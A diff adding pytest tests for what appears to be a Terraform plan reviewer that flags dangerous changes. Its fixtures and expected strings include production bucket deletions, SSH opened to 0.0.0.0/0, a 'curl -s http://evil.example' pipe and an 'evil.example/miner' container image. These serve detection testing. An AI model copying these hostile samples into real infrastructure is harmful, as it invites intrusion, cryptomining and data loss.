@@ -152,7 +152,7 @@ def test_what_no_rule_knows_is_counted_in_every_format() -> None:
         resource.update(type="acme_thing", address=f"acme_thing.t{number}")
     found = review([read(json.dumps(content), stack="s")], ReviewSettings(), TODAY)
     count = len(content["resource_changes"])
-    said = f"{count} changed resources are of types that no rule knows: acme"
+    said = f"{count} changed resources are of types that no rule covers: acme"
     assert said in comment(found).replace("\\", "")
     assert said in html.render(found)
     assert json.loads(document.render(found))["unjudged_types"] == {"acme_thing": count}
@@ -168,3 +168,81 @@ def test_each_provisioner_that_terraform_itself_wrote_down_is_told_with_its_text
         {"runs.command": "make down"},
         {"runs.command": "${var.cmd}", "runs.var.cmd": "echo hi"},
     ]
+
+
+def destroyed(number: int) -> str:
+    """Buckets that one plan destroys, and one firewall that it opens to the world."""
+    changes = [
+        {
+            "address": f"aws_s3_bucket.b{n}",
+            "mode": "managed",
+            "type": "aws_s3_bucket",
+            "name": f"b{n}",
+            "change": {"actions": ["delete"], "before": {"bucket": f"prod-{n}", "force_destroy": True}},
+        }
+        for n in range(number)
+    ]
+    rule = {
+        "type": "ingress",
+        "cidr_blocks": ["0.0.0.0/0"],
+        "from_port": 22,
+        "to_port": 22,
+        "protocol": "tcp",
+    }
+    opened = {
+        "address": "aws_security_group_rule.z",
+        "mode": "managed",
+        "type": "aws_security_group_rule",
+        "name": "z",
+        "change": {"actions": ["create"], "before": None, "after": rule},
+    }
+    return json.dumps({"format_version": "1.2", "planned_values": {}, "resource_changes": [*changes, opened]})
+
+
+@pytest.mark.parametrize("number", [400, 3_000])
+def test_many_findings_of_one_rule_leave_room_for_the_only_one_of_another(number: int) -> None:
+    written = comment(review([read(destroyed(number), stack="s")], ReviewSettings(), TODAY))
+    assert len(written) <= 65_536
+    assert "`aws_security_group_rule.z` in `s`" in written
+    assert "exposure.administration" in written
+    assert f"({number} resources)" in written.replace(",", "")
+    assert ("Shortened" in written) is (number > 400)
+    if number == 400:
+        assert all(f"`aws_s3_bucket.b{n}` in `s`" in written for n in range(number))
+
+
+@pytest.mark.parametrize(
+    ("name", "said", "not_said"),
+    [
+        (
+            "text_change",
+            ["| curl -s http://evil.example", "| replicas: 0", "decoded from base64"],
+            ["IyEvYm"],
+        ),
+        (
+            "nested_created",
+            ['["c"].image = evil.example/miner:latest', "host_network = true", "ingress[0].from_port = 22"],
+            ["null", "ipv6_cidr_blocks"],
+        ),
+        (
+            "checks",
+            ["Check health fails: Website returned 500", "Postcondition: certificate expires in 3 days"],
+            [],
+        ),
+        ("import_id", ["imported with the id somebody-elses"], []),
+        ("tainted", ["because it is marked as tainted"], []),
+        (
+            "env",
+            ['environment["FEATURE_X"].value = on', 'environment["URL"].value = https://b', "forced by"],
+            ["environment[1]"],
+        ),
+        ("force_destroy", ["Leave it off."], ["Leave it on"]),
+        ("pab4", ["block_public_acls = false, block_public_policy = false, ignore_public"], ["4 resources"]),
+        ("wrapper", ["x_y.a: changed in place"], []),
+    ],
+)
+def test_a_case_reads_as_a_person_needs_it(name: str, said: list[str], not_said: list[str]) -> None:
+    written = comment(reviewed(name)).replace("&#95;", "_").replace("\u2060", "").split("### Picture")[0]
+    assert [each for each in said if each not in written] == []
+    assert [each for each in not_said if each in written] == []
+    assert written.count("*Why it matters:*") <= 1
